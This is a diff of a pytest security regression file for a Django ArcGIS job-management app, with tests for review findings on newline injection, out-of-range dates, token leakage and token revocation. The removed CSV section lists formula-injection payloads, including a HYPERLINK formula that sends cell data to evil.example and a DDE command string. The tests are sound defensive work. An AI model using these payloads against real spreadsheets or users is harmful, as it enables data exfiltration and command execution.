@@ -1,5 +1,5 @@
 """Issue 11, "Security review findings": each test performs the attack a finding describes and checks that it
-no longer works. (Finding 2, stalls and the circuit breaker, is covered with the upstream timeouts.)"""
+no longer works. (Finding 2, stalls and the circuit breaker, is dealt with on its own.)"""
 
 from __future__ import annotations
 
@@ -14,7 +14,6 @@ import subprocess
 import sys
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from io import StringIO
 from pathlib import Path
 
 import pytest
@@ -109,232 +108,12 @@ def capture():
 
 
 def run(name: str, *args) -> str:
-    out = StringIO()
-    call_command(name, *args, stdout=out, stderr=StringIO())
+    out = io.StringIO()
+    call_command(name, *args, stdout=out, stderr=io.StringIO())
     return out.getvalue()
 
 
-# --- finding 4: a job ID with a trailing newline was a 500 -------------------------------------------------------
-
-
-def test_finding_4_a_trailing_newline_in_a_url_is_refused(simulator, service, target, olivia):
-    simulator.requests.clear()
-    base = target.url("job_list")
-    for path in (f"{base}{JOB}%0A/", f"{base}{JOB}%0A/cancel/", f"{base}{JOB}%0A/delete/"):
-        assert olivia.get(path).status_code in (400, 404)
-        assert olivia.action(path, {"confirmed": "yes"}).status_code in (400, 404)
-    for name in ("Watershed%0A", "Watershed%0D%0A"):
-        url = f"/sites/main/services/Hydrology/{name}.GPServer/jobs/"
-        assert olivia.get(url).status_code in (400, 404)
-    assert olivia.get("/sites/main%0A/").status_code in (400, 404)
-    assert not simulator.requests and not AuditEvent.objects.exists()
-
-
-@pytest.mark.parametrize("job_id", [f"{JOB}\n", f"{JOB}\r\n", f"\n{JOB}", f"{JOB}\nx"])
-def test_finding_4_a_trailing_newline_in_a_bulk_post_is_a_form_error(simulator, service, target, olivia, job_id):
-    simulator.state.add_job(service.key, status=EXECUTING, job_id=JOB)
-    simulator.requests.clear()
-    response = olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]})
-    assert response.status_code == 200
-    assert 'role="alert">Job IDs are letters and digits.</p>' in response.content.decode()
-    response = olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]}, htmx=False)
-    assert response.status_code == 302
-    assert not simulator.requests and not AuditEvent.objects.exists()
-    assert simulator.state.get_job(service.key, JOB)["status"] == EXECUTING
-
-
-def test_finding_4_newlines_in_the_jobs_filters(simulator, service, target, olivia):
-    """Surrounding whitespace of a typed filter is dropped (the clean ID is what is asked for); a newline inside
-    a value is refused in place."""
-    job_id = simulator.state.add_job(service.key, status=EXECUTING)
-    simulator.requests.clear()
-    html = olivia.get(target.url("job_list"), {"job": f"{job_id}\n"}).content.decode()
-    assert f'id="job-{job_id}"' in html
-    assert [r.raw_path.rsplit("/", 1)[-1] for r in simulator.requests] == [job_id]
-    simulator.requests.clear()
-    for params in ({"job": f"{job_id}\nx"}, {"user": "ana\nlyst"}, {"machine": "GIS01\nGIS02"}):
-        response = olivia.get(target.url("job_list"), params)
-        assert response.status_code == 200 and "The filters need a correction" in response.content.decode()
-    assert not simulator.requests
-
-
-def test_finding_4_newlines_in_command_line_names(simulator, site, service, operator, site_admin, connect):
-    connect(operator, site)
-    job_id = simulator.state.add_job(service.key, status=EXECUTING)
-    simulator.requests.clear()
-    for args in (
-        ["main", "Hydrology/Watershed", f"{job_id}\n"],
-        ["main", "Hydrology/Watershed\n", job_id],
-        ["main", "Hydrology\n/Watershed", job_id],
-    ):
-        with pytest.raises(CommandError, match="Not a valid"):
-            run("canceljob", *args, "--user", "olivia")
-    with pytest.raises(CommandError, match="slug"):
-        run("addsite", "north\n", "https://north.example.com/arcgis/admin", "--user", "sam")
-    with pytest.raises(CommandError, match="admin_url"):
-        run("addsite", "north", "https://north.example.com/arcgis/admin\n", "--user", "sam")
-    assert not simulator.requests and not Site.objects.filter(slug__startswith="north").exists()
-    assert not AuditEvent.objects.exists()
-
-
-def test_finding_4_a_slug_typed_with_a_newline_in_the_admin_is_cleaned(site_admin, client_as):
-    client = client_as(site_admin)
-    data = {
-        "csrfmiddlewaretoken": client.csrf_token,
-        "name": "North",
-        "slug": "north\n",
-        "admin_url": "https://north.example.com/arcgis/admin\n",
-        "token_url": "",
-        "referer": "",
-        "ca_bundle": "",
-        "connect_timeout": "3",
-        "read_timeout": "10",
-        "action_timeout": "30",
-    }
-    assert client.post(reverse("admin:jobs_site_add"), data).status_code == 302
-    site = Site.objects.get()
-    assert (site.slug, site.admin_url) == ("north", "https://north.example.com/arcgis/admin")
-
-
-# --- finding 10: CSV formula injection, the remaining cases -------------------------------------------------------
-
-FORMULAS = [
-    ' =HYPERLINK("https://evil.example/?"&A1,"Click")',
-    "\t=1+1",
-    "\r=1+1",
-    "\t1",  # a leading tab or carriage return alone is enough
-    "\r1",
-    "  +1+1",
-    "\n-1+1",
-    "\u00a0@SUM(A1:A2)",
-    '=cmd|" /C calc"!A0',
-    "=1+1",
-]
-PLAIN = ["a=b", "hello -world", "  spaced", "", "1+1"]
-
-
-@pytest.mark.parametrize("value", FORMULAS)
-def test_finding_10_a_formula_after_whitespace_or_a_control_character_is_neutralised(
-    site, operator, viewer, client_as, value
-):
-    operations.record_site_change(operator, site, value)
-    response = client_as(viewer).get(reverse("jobs:audit_csv"))
-    body = b"".join(response.streaming_content).decode()
-    rows = list(csv.DictReader(io.StringIO(body, newline="")))
-    assert [row["message"] for row in rows] == ["'" + value]  # quotes, tabs and line breaks survive intact
-
-
-def test_finding_10_plain_text_is_left_alone():
-    assert [csv_cell(value) for value in PLAIN] == PLAIN
-    assert [csv_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
-    assert csv_cell(None) is None and csv_cell(498) == 498
-
-
-# --- finding 5: extreme dates crashed the audit page and emptied its export ------------------------------------
-
-OUT_OF_RANGE = [
-    ("Etc/GMT-14", {"since": "0001-01-01T00:00"}, "From"),  # UTC+14: the UTC time is before year 1
-    ("Etc/GMT+12", {"until": "9999-12-31T23:59"}, "To"),  # UTC-12: the UTC time is after year 9999
-]
-
-
-@pytest.mark.parametrize(("zone", "params", "label"), OUT_OF_RANGE)
-def test_finding_5_out_of_range_dates_are_a_form_error_on_the_audit_page_and_a_400_for_the_csv(
-    site, operator, viewer, client_as, zone, params, label
-):
-    operations.record_site_change(operator, site, "msg-present")
-    client = client_as(viewer)
-    client.cookies["tz"] = zone
-    page = client.get(reverse("jobs:audit"), params)
-    assert page.status_code == 200
-    html = page.content.decode()
-    assert f"The filters need a correction. {label}: Enter a date between the years 1 and 9999." in html
-    assert "msg-present" not in html
-    export = client.get(reverse("jobs:audit_csv"), params)
-    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
-    assert export.content.decode().strip() == (
-        f"The filters need a correction. {label}: Enter a date between the years 1 and 9999."
-    )
-    # The same dates in a zone where they exist are fine.
-    client.cookies["tz"] = "UTC"
-    assert "msg-present" in client.get(reverse("jobs:audit"), params).content.decode()
-    assert b"msg-present" in b"".join(client.get(reverse("jobs:audit_csv"), params).streaming_content)
-
-
-@pytest.mark.parametrize(
-    ("zone", "params", "error"),
-    [
-        *[
-            (
-                zone,
-                params,
-                f"{'Submitted from' if label == 'From' else 'to'}: Enter a date between the years 1 and 9999.",
-            )
-            for zone, params, label in OUT_OF_RANGE
-        ],
-        ("UTC", {"since": "1969-12-31T23:59"}, "Submitted from: Enter a date from 1970 on."),
-        ("Etc/GMT-14", {"until": "1970-01-01T13:00"}, "to: Enter a date from 1970 on."),
-    ],
-)
-def test_finding_5_dates_that_cannot_be_epoch_milliseconds_are_a_form_error_on_the_jobs_page(
-    simulator, target, olivia, zone, params, error
-):
-    olivia.cookies["tz"] = zone
-    simulator.requests.clear()
-    response = olivia.get(target.url("job_list"), params)
-    assert response.status_code == 200
-    assert f"The filters need a correction: {error}" in response.content.decode()
-    assert not simulator.requests
-    olivia.cookies["tz"] = "UTC"
-    olivia.get(target.url("job_list"), {"since": "1970-01-01T00:00", "until": "9999-12-31T23:59"})
-    [query] = simulator.requests
-    assert (query.query["startTime"], query.query["endTime"]) == ("0", "253402300740000")
-
-
-# --- finding 7: passwords went to any token service /rest/info named ------------------------------------------
-
 CREDENTIALS = {"intent": "connect", "username": "siteadmin", "password": "siteadmin-secret", "expiration": 60}
-
-
-@pytest.mark.parametrize(
-    "elsewhere",
-    [
-        "{capture}/arcgis/tokens/generateToken",  # another port of the same host
-        "{capture_host}/arcgis/tokens/generateToken",  # another host name
-        "https://127.0.0.1:{port}/arcgis/tokens/generateToken",  # another scheme
-    ],
-)
-def test_finding_7_no_password_goes_to_a_token_service_on_another_origin(
-    simulator, site, operator, client_as, capture, elsewhere
-):
-    port = simulator.admin_url.split(":")[2].split("/")[0]
-    url = elsewhere.format(capture=capture.url, capture_host=capture.url.replace("127.0.0.1", "localhost"), port=port)
-    simulator.faults.set("html_502", operation="generateToken", status=404)  # the admin endpoint is hidden
-    simulator.faults.set("answer", operation="info", body={"authInfo": {"tokenServicesUrl": url}})
-    client = client_as(operator)
-    response = client.action(reverse("jobs:token", args=[site.slug]), CREDENTIALS, htmx=False)
-    assert response.status_code == 200
-    html = response.content.decode()
-    assert "names a token service at another address" in html and "set the site&#x27;s token URL" in html
-    assert capture.requests == []
-    assert [r.operation for r in simulator.requests] == ["generateToken", "info"]
-    event = AuditEvent.objects.get(action="connect")
-    assert event.outcome == "failed" and "another address" in event.message
-    assert "siteadmin-secret" not in event.message
-    assert not operator.arcgis_tokens.exists()
-
-
-def test_finding_7_a_token_service_on_the_sites_own_origin_is_still_found(simulator, site, operator, client_as):
-    simulator.faults.set("html_502", operation="generateToken", count=1, status=404)
-    client = client_as(operator)
-    data = {**CREDENTIALS, "password": "siteadmin"}
-    response = client.action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
-    assert response.status_code == 302
-    assert [r.operation for r in simulator.requests] == ["generateToken", "info", "generateToken"]
-    assert operator.arcgis_tokens.exists()
-
-
-# --- finding 3: timeouts had no upper bound, and an unexpected error left the audit row pending --------------
 
 
 def site_form(client, **fields) -> dict:
@@ -352,6 +131,168 @@ def site_form(client, **fields) -> dict:
         "_save": "Save",
         **fields,
     }
+
+
+# --- finding 1: a site admin could collect every operator's token and password --------------------------------
+
+
+def secrets_in(capture: CaptureServer, *secrets: str) -> list[str]:
+    received = capture.everything_received()
+    return [secret for secret in secrets if secret in received]
+
+
+def test_finding_1_a_changed_address_receives_no_token_and_no_password(
+    simulator, site, service, operator, second_operator, site_admin, connect, client_as, capture
+):
+    job_id = simulator.state.add_job(service.key, status=EXECUTING)
+    tokens = [connect(operator, site).token, connect(second_operator, site).token]
+    olivia = client_as(operator)
+    token_page = olivia.get(reverse("jobs:token", args=[site.slug])).content.decode()
+    shown_for = re.search(r'name="address" value="([0-9a-f]+)"', token_page).group(1)
+
+    # A site admin points the site at an address they control.
+    admin = client_as(site_admin)
+    change = reverse("admin:jobs_site_change", args=[site.pk])
+    form = site_form(
+        admin,
+        name=site.name,
+        slug=site.slug,
+        admin_url=capture.admin_url,
+        token_url=capture.token_url,
+        insecure="on",
+    )
+    response = admin.post(change, form)
+    assert response.status_code == 302, response.content.decode()
+    assert not site.tokens.exists()  # revoked with the change, in the same transaction
+    event = AuditEvent.objects.get(action="site_change")
+    assert event.message == (
+        f"Changed site: admin_url '{simulator.admin_url}' → '{capture.admin_url}'; "
+        f"token_url '' → '{capture.token_url}'. Revoked 2 stored tokens: the address changed."
+    )
+    assert not secrets_in(capture, *tokens) and not any(token in event.message for token in tokens)
+
+    # Every page and action of the operator says why, and sends nothing.
+    target = ServiceTarget(Site.objects.get(pk=site.pk), service)
+    reason = "This site's address changed: reconnect."
+    for response in (
+        olivia.get(reverse("jobs:overview")),
+        olivia.get(reverse("jobs:site", args=[site.slug])),
+        olivia.get(target.url("job_list")),
+        olivia.htmx_get(target.url("service_counts")),
+        olivia.htmx_get(target.url("job", job_id)),
+        olivia.action(target.url("cancel", job_id)),
+        olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]}),
+    ):
+        assert response.status_code in (200, 286)
+        assert reason in htmllib.unescape(response.content.decode())
+
+    # The connect form she had open was for the old address: her password is not sent anywhere.
+    credentials = {**CREDENTIALS, "address": shown_for}
+    response = olivia.action(reverse("jobs:token", args=[site.slug]), credentials, htmx=False)
+    html = response.content.decode()
+    assert response.status_code == 200 and "This site&#x27;s address changed since this page was shown" in html
+    pasted = {"intent": "paste", "token": "pasted.token", "address": shown_for}
+    refused = olivia.action(reverse("jobs:token", args=[site.slug]), pasted, htmx=False).content.decode()
+    assert "This site&#x27;s address changed since this page was shown" in refused
+    assert not site.tokens.exists() and not AuditEvent.objects.filter(action="connect").exists()
+    # The token page now says where a password would go, and that the address changed.
+    assert f"<code>{capture.url}</code>" in html and "every stored token was revoked" in html
+
+    assert capture.requests == []
+    assert not secrets_in(capture, *tokens, "siteadmin-secret", "pasted.token")
+    assert simulator.state.get_job(service.key, job_id)["status"] == EXECUTING
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("admin_url", "https://elsewhere.example.com/arcgis/admin"),
+        ("token_url", "https://elsewhere.example.com/arcgis/tokens/generateToken"),
+        ("referer", "https://other-portal.example.org/"),
+        ("insecure", False),
+        ("ca_bundle", "PEM"),
+    ],
+)
+def test_finding_1_any_change_of_how_a_site_is_reached_revokes_its_tokens(
+    simulator, site, operator, site_admin, connect, client_as, tmp_path, field, value
+):
+    connect(operator, site)
+    admin = client_as(site_admin)
+    fields = {"name": site.name, "slug": site.slug, "admin_url": site.admin_url, "insecure": "on"}
+    if field == "ca_bundle":
+        pem = generate_certificate(tmp_path / "ca")[0].read_text()
+        fields |= {"insecure": "", "ca_bundle": pem, "admin_url": site.admin_url.replace("http://", "https://")}
+    elif field == "insecure":
+        fields |= {"insecure": "", "admin_url": site.admin_url.replace("http://", "https://")}
+    else:
+        fields[field] = value
+    response = admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields))
+    assert response.status_code == 302, response.content.decode()
+    assert not site.tokens.exists()
+    message = AuditEvent.objects.get(action="site_change").message
+    assert f"{field} " in message and message.endswith("Revoked 1 stored token: the address changed.")
+    assert "BEGIN CERTIFICATE" not in message
+
+
+def test_finding_1_other_changes_keep_the_tokens(simulator, site, operator, site_admin, connect, client_as):
+    connect(operator, site)
+    admin = client_as(site_admin)
+    team = Group.objects.create(name="Hydrology team")
+    operator.groups.add(team)
+    fields = {
+        "name": "Renamed",
+        "slug": site.slug,
+        "admin_url": site.admin_url,
+        "insecure": "on",
+        "read_timeout": "20",
+        "groups": [team.pk],
+    }
+    assert admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields)).status_code == 302
+    assert site.tokens.count() == 1 and Site.objects.get().connection_changed is None
+    message = AuditEvent.objects.get(action="site_change").message
+    assert (
+        message == "Changed site: name 'Main site' → 'Renamed'; read_timeout 10.0 → 20.0; groups [] → [Hydrology team]."
+    )
+
+
+def test_finding_1_addsite_on_an_existing_slug_revokes_the_tokens(simulator, site, operator, site_admin, connect):
+    connect(operator, site)
+    out = run("addsite", "main", "http://127.0.0.1:9/arcgis/admin", "--insecure", "--user", "sam")
+    assert "revoked 1 stored token(s)" in out
+    assert not site.tokens.exists() and Site.objects.get().connection_changed is not None
+    message = AuditEvent.objects.get(action="site_change").message
+    assert f"admin_url '{simulator.admin_url}' → 'http://127.0.0.1:9/arcgis/admin'" in message
+    assert message.endswith("Revoked 1 stored token: the address changed.")
+
+
+def test_finding_1_a_token_obtained_from_the_old_address_is_not_kept(
+    simulator, site, operator, site_admin, client_as, monkeypatch, capture
+):
+    """A connect under way while the address changes: the token it brings back is not stored."""
+    real = arcgis.AdminClient.generate_token
+
+    def then_the_address_changes(self, *args, **kwargs):
+        token = real(self, *args, **kwargs)
+        moved = Site.objects.get(pk=site.pk)
+        moved.admin_url = capture.admin_url
+        operations.change_site(site_admin, moved, operations.site_changes(moved))
+        return token
+
+    monkeypatch.setattr(arcgis.AdminClient, "generate_token", then_the_address_changes)
+    data = {**CREDENTIALS, "password": "siteadmin"}
+    response = client_as(operator).action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
+    assert response.status_code == 200
+    assert "This site&#x27;s address changed while you connected: reconnect." in response.content.decode()
+    assert not site.tokens.exists()
+    assert AuditEvent.objects.get(action="connect").outcome == "failed"
+    # Pages now say why, and the new address hears nothing.
+    assert "This site's address changed: reconnect." in htmllib.unescape(
+        client_as(operator).get(reverse("jobs:overview")).content.decode()
+    )
+    assert capture.requests == []
+
+
+# --- finding 3: timeouts had no upper bound, and an unexpected error left the audit row pending --------------
 
 
 @pytest.mark.parametrize(
@@ -485,6 +426,149 @@ def test_finding_3_an_unexpected_error_while_connecting_completes_the_audit_row(
     assert not operator.arcgis_tokens.exists()
 
 
+# --- finding 4: a job ID with a trailing newline was a 500 -------------------------------------------------------
+
+
+def test_finding_4_a_trailing_newline_in_a_url_is_refused(simulator, service, target, olivia):
+    simulator.requests.clear()
+    base = target.url("job_list")
+    for path in (f"{base}{JOB}%0A/", f"{base}{JOB}%0A/cancel/", f"{base}{JOB}%0A/delete/"):
+        assert olivia.get(path).status_code in (400, 404)
+        assert olivia.action(path, {"confirmed": "yes"}).status_code in (400, 404)
+    for name in ("Watershed%0A", "Watershed%0D%0A"):
+        url = f"/sites/main/services/Hydrology/{name}.GPServer/jobs/"
+        assert olivia.get(url).status_code in (400, 404)
+    assert olivia.get("/sites/main%0A/").status_code in (400, 404)
+    assert not simulator.requests and not AuditEvent.objects.exists()
+
+
+@pytest.mark.parametrize("job_id", [f"{JOB}\n", f"{JOB}\r\n", f"\n{JOB}", f"{JOB}\nx"])
+def test_finding_4_a_trailing_newline_in_a_bulk_post_is_a_form_error(simulator, service, target, olivia, job_id):
+    simulator.state.add_job(service.key, status=EXECUTING, job_id=JOB)
+    simulator.requests.clear()
+    response = olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]})
+    assert response.status_code == 200
+    assert 'role="alert">Job IDs are letters and digits.</p>' in response.content.decode()
+    response = olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]}, htmx=False)
+    assert response.status_code == 302
+    assert not simulator.requests and not AuditEvent.objects.exists()
+    assert simulator.state.get_job(service.key, JOB)["status"] == EXECUTING
+
+
+def test_finding_4_newlines_in_the_jobs_filters(simulator, service, target, olivia):
+    """Surrounding whitespace of a typed filter is dropped (the clean ID is what is asked for); a newline inside
+    a value is refused in place."""
+    job_id = simulator.state.add_job(service.key, status=EXECUTING)
+    simulator.requests.clear()
+    html = olivia.get(target.url("job_list"), {"job": f"{job_id}\n"}).content.decode()
+    assert f'id="job-{job_id}"' in html
+    assert [r.raw_path.rsplit("/", 1)[-1] for r in simulator.requests] == [job_id]
+    simulator.requests.clear()
+    for params in ({"job": f"{job_id}\nx"}, {"user": "ana\nlyst"}, {"machine": "GIS01\nGIS02"}):
+        response = olivia.get(target.url("job_list"), params)
+        assert response.status_code == 200 and "The filters need a correction" in response.content.decode()
+    assert not simulator.requests
+
+
+def test_finding_4_newlines_in_command_line_names(simulator, site, service, operator, site_admin, connect):
+    connect(operator, site)
+    job_id = simulator.state.add_job(service.key, status=EXECUTING)
+    simulator.requests.clear()
+    for args in (
+        ["main", "Hydrology/Watershed", f"{job_id}\n"],
+        ["main", "Hydrology/Watershed\n", job_id],
+        ["main", "Hydrology\n/Watershed", job_id],
+    ):
+        with pytest.raises(CommandError, match="Not a valid"):
+            run("canceljob", *args, "--user", "olivia")
+    with pytest.raises(CommandError, match="slug"):
+        run("addsite", "north\n", "https://north.example.com/arcgis/admin", "--user", "sam")
+    with pytest.raises(CommandError, match="admin_url"):
+        run("addsite", "north", "https://north.example.com/arcgis/admin\n", "--user", "sam")
+    assert not simulator.requests and not Site.objects.filter(slug__startswith="north").exists()
+    assert not AuditEvent.objects.exists()
+
+
+def test_finding_4_a_slug_typed_with_a_newline_in_the_admin_is_cleaned(site_admin, client_as):
+    client = client_as(site_admin)
+    data = {
+        "csrfmiddlewaretoken": client.csrf_token,
+        "name": "North",
+        "slug": "north\n",
+        "admin_url": "https://north.example.com/arcgis/admin\n",
+        "token_url": "",
+        "referer": "",
+        "ca_bundle": "",
+        "connect_timeout": "3",
+        "read_timeout": "10",
+        "action_timeout": "30",
+    }
+    assert client.post(reverse("admin:jobs_site_add"), data).status_code == 302
+    site = Site.objects.get()
+    assert (site.slug, site.admin_url) == ("north", "https://north.example.com/arcgis/admin")
+
+
+# --- finding 5: extreme dates crashed the audit page and emptied its export ------------------------------------
+
+OUT_OF_RANGE = [
+    ("Etc/GMT-14", {"since": "0001-01-01T00:00"}, "From"),  # UTC+14: the UTC time is before year 1
+    ("Etc/GMT+12", {"until": "9999-12-31T23:59"}, "To"),  # UTC-12: the UTC time is after year 9999
+]
+
+
+@pytest.mark.parametrize(("zone", "params", "label"), OUT_OF_RANGE)
+def test_finding_5_out_of_range_dates_are_a_form_error_on_the_audit_page_and_a_400_for_the_csv(
+    site, operator, viewer, client_as, zone, params, label
+):
+    operations.record_site_change(operator, site, "msg-present")
+    client = client_as(viewer)
+    client.cookies["tz"] = zone
+    page = client.get(reverse("jobs:audit"), params)
+    assert page.status_code == 200
+    html = page.content.decode()
+    assert f"The filters need a correction. {label}: Enter a date between the years 1 and 9999." in html
+    assert "msg-present" not in html
+    export = client.get(reverse("jobs:audit_csv"), params)
+    assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
+    assert export.content.decode().strip() == (
+        f"The filters need a correction. {label}: Enter a date between the years 1 and 9999."
+    )
+    # The same dates in a zone where they exist are fine.
+    client.cookies["tz"] = "UTC"
+    assert "msg-present" in client.get(reverse("jobs:audit"), params).content.decode()
+    assert b"msg-present" in b"".join(client.get(reverse("jobs:audit_csv"), params).streaming_content)
+
+
+@pytest.mark.parametrize(
+    ("zone", "params", "error"),
+    [
+        *[
+            (
+                zone,
+                params,
+                f"{'Submitted from' if label == 'From' else 'to'}: Enter a date between the years 1 and 9999.",
+            )
+            for zone, params, label in OUT_OF_RANGE
+        ],
+        ("UTC", {"since": "1969-12-31T23:59"}, "Submitted from: Enter a date from 1970 on."),
+        ("Etc/GMT-14", {"until": "1970-01-01T13:00"}, "to: Enter a date from 1970 on."),
+    ],
+)
+def test_finding_5_dates_that_cannot_be_epoch_milliseconds_are_a_form_error_on_the_jobs_page(
+    simulator, target, olivia, zone, params, error
+):
+    olivia.cookies["tz"] = zone
+    simulator.requests.clear()
+    response = olivia.get(target.url("job_list"), params)
+    assert response.status_code == 200
+    assert f"The filters need a correction: {error}" in response.content.decode()
+    assert not simulator.requests
+    olivia.cookies["tz"] = "UTC"
+    olivia.get(target.url("job_list"), {"since": "1970-01-01T00:00", "until": "9999-12-31T23:59"})
+    [query] = simulator.requests
+    assert (query.query["startTime"], query.query["endTime"]) == ("0", "253402300740000")
+
+
 # --- finding 6: audit history leaked when a slug was reused -----------------------------------------------------
 
 
@@ -523,6 +607,47 @@ def test_finding_6_a_reused_slug_does_not_reveal_the_deleted_sites_history(
         ("site_change", "main", "Secret site"),
     }
     assert all(event.site_id is None for event in AuditEvent.objects.all())
+
+
+# --- finding 7: passwords went to any token service /rest/info named ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "elsewhere",
+    [
+        "{capture}/arcgis/tokens/generateToken",  # another port of the same host
+        "{capture_host}/arcgis/tokens/generateToken",  # another host name
+        "https://127.0.0.1:{port}/arcgis/tokens/generateToken",  # another scheme
+    ],
+)
+def test_finding_7_no_password_goes_to_a_token_service_on_another_origin(
+    simulator, site, operator, client_as, capture, elsewhere
+):
+    port = simulator.admin_url.split(":")[2].split("/")[0]
+    url = elsewhere.format(capture=capture.url, capture_host=capture.url.replace("127.0.0.1", "localhost"), port=port)
+    simulator.faults.set("html_502", operation="generateToken", status=404)  # the admin endpoint is hidden
+    simulator.faults.set("answer", operation="info", body={"authInfo": {"tokenServicesUrl": url}})
+    client = client_as(operator)
+    response = client.action(reverse("jobs:token", args=[site.slug]), CREDENTIALS, htmx=False)
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "names a token service at another address" in html and "set the site&#x27;s token URL" in html
+    assert capture.requests == []
+    assert [r.operation for r in simulator.requests] == ["generateToken", "info"]
+    event = AuditEvent.objects.get(action="connect")
+    assert event.outcome == "failed" and "another address" in event.message
+    assert "siteadmin-secret" not in event.message
+    assert not operator.arcgis_tokens.exists()
+
+
+def test_finding_7_a_token_service_on_the_sites_own_origin_is_still_found(simulator, site, operator, client_as):
+    simulator.faults.set("html_502", operation="generateToken", count=1, status=404)
+    client = client_as(operator)
+    data = {**CREDENTIALS, "password": "siteadmin"}
+    response = client.action(reverse("jobs:token", args=[site.slug]), data, htmx=False)
+    assert response.status_code == 302
+    assert [r.operation for r in simulator.requests] == ["generateToken", "info", "generateToken"]
+    assert operator.arcgis_tokens.exists()
 
 
 # --- finding 8: CA bundles were paths on one host -----------------------------------------------------------
@@ -612,163 +737,6 @@ def test_finding_8_the_migration_reads_existing_paths_into_pem(tmp_path, capsys)
         executor.migrate(executor.loader.graph.leaf_nodes())
 
 
-# --- finding 1: a site admin could collect every operator's token and password --------------------------------
-
-
-def secrets_in(capture: CaptureServer, *secrets: str) -> list[str]:
-    received = capture.everything_received()
-    return [secret for secret in secrets if secret in received]
-
-
-def test_finding_1_a_changed_address_receives_no_token_and_no_password(
-    simulator, site, service, operator, second_operator, site_admin, connect, client_as, capture
-):
-    job_id = simulator.state.add_job(service.key, status=EXECUTING)
-    tokens = [connect(operator, site).token, connect(second_operator, site).token]
-    olivia = client_as(operator)
-    token_page = olivia.get(reverse("jobs:token", args=[site.slug])).content.decode()
-    shown_for = re.search(r'name="address" value="([0-9a-f]+)"', token_page).group(1)
-
-    # A site admin points the site at an address they control.
-    admin = client_as(site_admin)
-    change = reverse("admin:jobs_site_change", args=[site.pk])
-    form = site_form(
-        admin,
-        name=site.name,
-        slug=site.slug,
-        admin_url=capture.admin_url,
-        token_url=capture.token_url,
-        insecure="on",
-    )
-    response = admin.post(change, form)
-    assert response.status_code == 302, response.content.decode()
-    assert not site.tokens.exists()  # revoked with the change, in the same transaction
-    event = AuditEvent.objects.get(action="site_change")
-    assert event.message == (
-        f"Changed site: admin_url '{simulator.admin_url}' → '{capture.admin_url}'; "
-        f"token_url '' → '{capture.token_url}'. Revoked 2 stored tokens: the address changed."
-    )
-    assert not secrets_in(capture, *tokens) and not any(token in event.message for token in tokens)
-
-    # Every page and action of the operator says why, and sends nothing.
-    target = ServiceTarget(Site.objects.get(pk=site.pk), service)
-    reason = "This site's address changed: reconnect."
-    for response in (
-        olivia.get(reverse("jobs:overview")),
-        olivia.get(reverse("jobs:site", args=[site.slug])),
-        olivia.get(target.url("job_list")),
-        olivia.htmx_get(target.url("service_counts")),
-        olivia.htmx_get(target.url("job", job_id)),
-        olivia.action(target.url("cancel", job_id)),
-        olivia.action(target.url("bulk"), {"action": "cancel", "job_ids": [job_id]}),
-    ):
-        assert response.status_code in (200, 286)
-        assert reason in htmllib.unescape(response.content.decode())
-
-    # The connect form she had open was for the old address: her password is not sent anywhere.
-    credentials = {**CREDENTIALS, "address": shown_for}
-    response = olivia.action(reverse("jobs:token", args=[site.slug]), credentials, htmx=False)
-    html = response.content.decode()
-    assert response.status_code == 200 and "This site&#x27;s address changed since this page was shown" in html
-    pasted = {"intent": "paste", "token": "pasted.token", "address": shown_for}
-    olivia.action(reverse("jobs:token", args=[site.slug]), pasted, htmx=False)
-    # The token page now says where a password would go, and that the address changed.
-    assert f"<code>{capture.url}</code>" in html and "every stored token was revoked" in html
-
-    assert capture.requests == []
-    assert not secrets_in(capture, *tokens, "siteadmin-secret", "pasted.token")
-    assert simulator.state.get_job(service.key, job_id)["status"] == EXECUTING
-
-
-@pytest.mark.parametrize(
-    ("field", "value"),
-    [
-        ("admin_url", "https://elsewhere.example.com/arcgis/admin"),
-        ("token_url", "https://elsewhere.example.com/arcgis/tokens/generateToken"),
-        ("referer", "https://other-portal.example.org/"),
-        ("insecure", False),
-        ("ca_bundle", "PEM"),
-    ],
-)
-def test_finding_1_any_change_of_how_a_site_is_reached_revokes_its_tokens(
-    simulator, site, operator, site_admin, connect, client_as, tmp_path, field, value
-):
-    connect(operator, site)
-    admin = client_as(site_admin)
-    fields = {"name": site.name, "slug": site.slug, "admin_url": site.admin_url, "insecure": "on"}
-    if field == "ca_bundle":
-        pem = generate_certificate(tmp_path / "ca")[0].read_text()
-        fields |= {"insecure": "", "ca_bundle": pem, "admin_url": site.admin_url.replace("http://", "https://")}
-    elif field == "insecure":
-        fields |= {"insecure": "", "admin_url": site.admin_url.replace("http://", "https://")}
-    else:
-        fields[field] = value
-    response = admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields))
-    assert response.status_code == 302, response.content.decode()
-    assert not site.tokens.exists()
-    message = AuditEvent.objects.get(action="site_change").message
-    assert f"{field} " in message and message.endswith("Revoked 1 stored token: the address changed.")
-    assert "BEGIN CERTIFICATE" not in message
-
-
-def test_finding_1_other_changes_keep_the_tokens(simulator, site, operator, site_admin, connect, client_as):
-    connect(operator, site)
-    admin = client_as(site_admin)
-    team = Group.objects.create(name="Hydrology team")
-    operator.groups.add(team)
-    fields = {
-        "name": "Renamed",
-        "slug": site.slug,
-        "admin_url": site.admin_url,
-        "insecure": "on",
-        "read_timeout": "20",
-        "groups": [team.pk],
-    }
-    assert admin.post(reverse("admin:jobs_site_change", args=[site.pk]), site_form(admin, **fields)).status_code == 302
-    assert site.tokens.count() == 1 and Site.objects.get().connection_changed is None
-    message = AuditEvent.objects.get(action="site_change").message
-    assert (
-        message == "Changed site: name 'Main site' → 'Renamed'; read_timeout 10.0 → 20.0; groups [] → [Hydrology team]."
-    )
-
-
